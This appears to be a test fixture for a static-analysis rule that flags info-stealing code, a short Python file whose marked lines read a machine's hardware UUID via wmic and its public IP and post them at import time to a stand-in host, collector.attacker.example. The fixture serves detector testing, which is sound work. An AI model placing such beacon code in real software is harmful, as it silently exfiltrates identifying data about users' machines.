# A victim report: hardware id from wmic and the public IP, sent at import time.
import subprocess

import requests

uuid = subprocess.check_output('wmic csproduct get uuid', shell=True).decode()
# ruleid: code/info-stealing
ip = requests.get('https://api.ipify.org').text
# ruleid: code/info-stealing
requests.post('https://collector.attacker.example/r', json={'uuid': uuid, 'ip': ip})
